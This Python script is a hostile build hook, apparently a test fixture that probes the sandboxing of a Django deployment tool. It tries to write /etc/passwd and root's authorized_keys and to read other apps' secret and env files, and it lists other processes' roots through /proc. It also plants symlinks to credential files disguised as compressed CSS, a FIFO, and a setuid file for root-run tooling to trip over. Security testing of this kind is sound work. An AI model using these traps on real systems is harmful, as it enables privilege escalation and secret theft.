"""Tries from within a build what a build must not do, and leaves a note of what came of it in the source.

`python attack.py <step>` in a hook; the settings and the build script of `trojan` call it too. What it plants is for
root to fall over: whoever owns, compresses and publishes the release.
"""

import contextlib
import errno
import json
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
OWN = "/srv/hostile"
# Of root, of another app and of the live release: the last has the same user.
WRITE = [
    "/etc/passwd",
    "/root/kept/authorized_keys",
    "/srv/probe",
    f"{OWN}/probe",
    f"{OWN}/static/probe",
    f"{OWN}/current/source/probe",
    f"{OWN}/current/venv/bin/python",
    "/srv/locked/data/probe",
    "/srv/locked/media/probe",
    "/etc/djangofleet/probe",
    "/var/log/probe",
    "/run/probe",
]
READ = [
    "/root/kept/authorized_keys",
    "/etc/djangofleet/locked/app.json",
    "/etc/djangofleet/hostile/env",
    "/etc/djangofleet/hostile/secret",
    "/srv/locked",
    f"{OWN}/current",
    f"{OWN}/repo",
]
LIST = ["/srv", OWN, f"{OWN}/releases", f"{OWN}/venvs", f"{OWN}/data", f"{OWN}/media", "/etc/djangofleet"]


def write(path):
    with open(path, "a"):
        return "done"


def read(path):
    try:
        return f"has {len(os.listdir(path))} entries"
    except NotADirectoryError:
        with open(path) as handle:
            return f"has {len(handle.read())} characters"


def entries(path):
    return sorted(os.listdir(path))


def attempt(action, path):
    try:
        return action(path)
    except OSError as error:
        return errno.errorcode[error.errno]


def everything(step):
    """Try everything and write down what came of it, if the step may write to the source."""
    processes = [name for name in os.listdir("/proc") if name.isdecimal()]
    came_of = {
        "processes": [attempt(entries, f"/proc/{process}/root{OWN}/releases") for process in processes],
        "write": {path: attempt(write, path) for path in WRITE},
        "read": {path: attempt(read, path) for path in READ},
        "list": {path: attempt(entries, path) for path in LIST},
    }
    with contextlib.suppress(OSError), open(f"{HERE}/{step}.json", "w") as handle:
        json.dump(came_of, handle)


def plant(directory):
    """Leave what leads out of a directory, at names that root comes to."""
    links = {
        "configuration": "/etc/djangofleet",
        "passwd.txt": "/etc/passwd",
        "authorized_keys.txt": "/root/kept/authorized_keys",
        "site.css.gz": "/root/kept/authorized_keys",
        "site.css.br": "/root/kept/authorized_keys",
    }
    for name, target in links.items():
        with contextlib.suppress(FileExistsError):
            os.symlink(target, f"{directory}/{name}")
    with contextlib.suppress(FileExistsError):
        os.mkfifo(f"{directory}/fifo.css")
    with open(f"{directory}/setuid.css", "w") as handle:
        handle.write("body { color: black }\n" * 50)
    os.chmod(f"{directory}/setuid.css", 0o6777)  # noqa: S103  (that is the attack)


if __name__ == "__main__":
    everything(sys.argv[1])
    if sys.argv[1] == "after":  # before, its own collectstatic would fall over them
        for directory in (os.environ["STATIC_ROOT"], HERE, f"{HERE}/var", os.environ["MEDIA_ROOT"]):
            plant(directory)
